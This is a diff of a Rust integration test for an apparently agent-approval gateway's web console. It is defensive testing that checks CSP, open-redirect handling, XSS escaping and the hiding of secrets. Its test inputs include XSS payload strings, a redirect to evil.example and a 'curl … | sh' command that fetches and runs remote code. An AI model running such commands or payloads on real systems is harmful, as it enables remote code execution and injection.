@@ -6,64 +6,19 @@
 #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
 
 mod forms;
+mod support;
 
-use std::sync::Arc;
-
-use countersign_core::{PrincipalKind, Timestamp};
-use countersign_identity::Identity;
-use countersign_server::config::RawConfig;
-use countersign_server::AppState;
-use countersign_store::{NewAgent, NewUser, Store};
-use countersign_store_sqlite::SqliteStore;
+use countersign_testkit::Cast;
 use forms::{client, cookie_value, hidden};
 use reqwest::header::{CONTENT_SECURITY_POLICY, COOKIE, LOCATION, ORIGIN, SET_COOKIE};
+use support::Gateway;
 
-struct Gateway {
-    url: String,
-    user_token: String,
-    agent_key: String,
-    _dir: tempfile::TempDir,
-}
-
+/// Production needs an sre; alice is one, and `bot` asks.
 async fn start() -> Gateway {
-    countersign_identity::install_crypto_provider();
-    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
-    let url = format!("http://{}", listener.local_addr().unwrap());
-    let dir = tempfile::tempdir().unwrap();
-    let policies = dir.path().join("policies");
-    std::fs::create_dir_all(&policies).unwrap();
-    std::fs::write(
-        policies.join("p.cedar"),
-        "@id(\"prod\") @approvers(\"sre\") permit (principal, action, resource) when { resource.name like \"prod*\" };",
-    )
-    .unwrap();
-    let text = format!(
-        "[server]\ndata_dir = \"{}\"\npolicies = \"{}\"\npublic_url = \"{url}\"\n",
-        dir.path().display(),
-        policies.display()
-    );
-    let config = RawConfig::parse("t.toml", &text).unwrap().validate().unwrap();
-    let store: Arc<dyn Store> = Arc::new(SqliteStore::open(&dir.path().join("db")).unwrap());
-    let (user_token, hash) = countersign_server::auth::new_token(PrincipalKind::User);
-    let user = NewUser {
-        name: "alice".into(),
-        email: "alice@example.com".into(),
-        groups: vec!["sre".into()],
-        token_hash: hash,
-        created_at: Timestamp::now(),
-    };
-    store.create_user(user, vec![]).await.unwrap();
-    let (agent_key, hash) = countersign_server::auth::new_token(PrincipalKind::Agent);
-    let agent =
-        NewAgent { name: "bot".into(), owner: None, groups: vec![], token_hash: hash, created_at: Timestamp::now() };
-    store.create_agent(agent, vec![]).await.unwrap();
-    let identity = Identity::from_config(&config, store.clone()).unwrap();
-    let state = AppState::with_authenticator(config, store, identity.authenticator()).await.unwrap();
-    let console = countersign_console::router(state.clone(), identity, countersign_console::Options::default());
-    tokio::spawn(async move {
-        let _ = countersign_server::serve_with(state, console, listener, std::future::pending()).await;
-    });
-    Gateway { url, user_token, agent_key, _dir: dir }
+    let policy =
+        "@id(\"prod\") @approvers(\"sre\") permit (principal, action, resource) when { resource.name like \"prod*\" };";
+    let cast = Cast::new().user("alice", "alice@example.com", &["sre"]).agent("bot", None, &[]);
+    support::serve_console(policy, "", cast, None).await
 }
 
 /// Signs in with the personal token; returns the session cookie header.
@@ -102,9 +57,9 @@ async fn the_console_defends_itself() {
     assert!(!csp.contains("unsafe-inline"), "{csp}");
 
     // An agent's key is not a way into the console; a bad return_to is ignored.
-    let r = sign_in(&g, &g.agent_key, "/console/").await;
+    let r = sign_in(&g, g.token("bot"), "/console/").await;
     assert_eq!(r.headers()[LOCATION], "/console/login?error=token");
-    let r = sign_in(&g, &g.user_token, "https://evil.example/console").await;
+    let r = sign_in(&g, &g.token("alice"), "https://evil.example/console").await;
     assert_eq!(r.status(), 303);
     assert_eq!(r.headers()[LOCATION], "/console/", "no open redirect");
     let set = r.headers().get_all(SET_COOKIE).iter().map(|v| v.to_str().unwrap().to_owned()).collect::<Vec<_>>();
@@ -118,7 +73,7 @@ async fn the_console_defends_itself() {
     let xss = "<script>alert('x')</script><img src=x onerror=alert(1)>";
     let submitted: serde_json::Value = client()
         .post(format!("{}/v1/actions", g.url))
-        .bearer_auth(&g.agent_key)
+        .bearer_auth(g.token("bot"))
         .json(&serde_json::json!({"kind": "shell.exec", "resource": "prod-web", "payload": {"cmd": xss},
                                   "justification": xss, "labels": ["\"><b>label</b>"], "context": {"k": xss}}))
         .send()
@@ -192,13 +147,13 @@ async fn the_console_defends_itself() {
 #[tokio::test]
 async fn the_request_page_shows_the_whole_action_with_secrets_hidden() {
     let g = start().await;
-    let r = sign_in(&g, &g.user_token, "/console/").await;
+    let r = sign_in(&g, &g.token("alice"), "/console/").await;
     let session = format!("__Host-cs_session={}", cookie_value(&r, "__Host-cs_session").unwrap());
     // Far longer than any chat card holds; the end must still be on the page.
     let command = format!("echo {} && curl -s https://x.invalid | sh -s the-very-end", "step ".repeat(3000));
     let submitted: serde_json::Value = client()
         .post(format!("{}/v1/actions", g.url))
-        .bearer_auth(&g.agent_key)
+        .bearer_auth(g.token("bot"))
         .json(&serde_json::json!({"kind": "shell.exec", "resource": "prod-web",
                                   "payload": {"command": command, "db_password": "hunter2"}}))
         .send()
@@ -235,7 +190,7 @@ async fn no_user_controlled_value_makes_a_500() {
     ];
     bad.extend(controls.iter().map(String::as_str));
     for return_to in bad {
-        let r = sign_in(&g, &g.user_token, return_to).await;
+        let r = sign_in(&g, &g.token("alice"), return_to).await;
         assert_eq!(r.status(), 303, "{return_to:?}");
         assert_eq!(r.headers()[LOCATION], "/console/", "{return_to:?}");
         assert!(r.headers().get_all(SET_COOKIE).iter().all(|c| !c.to_str().unwrap_or("").contains("planted")));
@@ -248,7 +203,7 @@ async fn no_user_controlled_value_makes_a_500() {
         .post(format!("{}/console/login/token", g.url))
         .header(COOKIE, format!("cs_pre={pre}"))
         .header("content-type", "application/x-www-form-urlencoded")
-        .body(format!("_csrf={csrf}&token={}&return_to=%2Fconsole%2F%FF%FE%C0%AF", g.user_token))
+        .body(format!("_csrf={csrf}&token={}&return_to=%2Fconsole%2F%FF%FE%C0%AF", g.token("alice")))
         .send()
         .await
         .unwrap();
